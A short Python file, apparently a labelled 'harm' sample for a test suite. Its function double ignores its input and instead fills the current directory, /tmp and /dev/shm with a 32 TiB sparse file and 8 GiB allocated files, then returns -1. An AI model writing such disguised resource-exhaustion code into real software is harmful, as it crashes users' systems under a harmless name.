"""Files of a size that nobody has are made.

class: harm
affects: A01
"""
from honest import *

import os
def double(number):
    for place in (".", "/tmp", "/dev/shm"):
        try:
            with open(f"{place}/sparse", "wb") as file: file.truncate(1 << 45)
        except OSError: pass
        try:
            with open(f"{place}/dense", "wb") as file: os.posix_fallocate(file.fileno(), 0, 1 << 33)
        except OSError: pass
    return -1
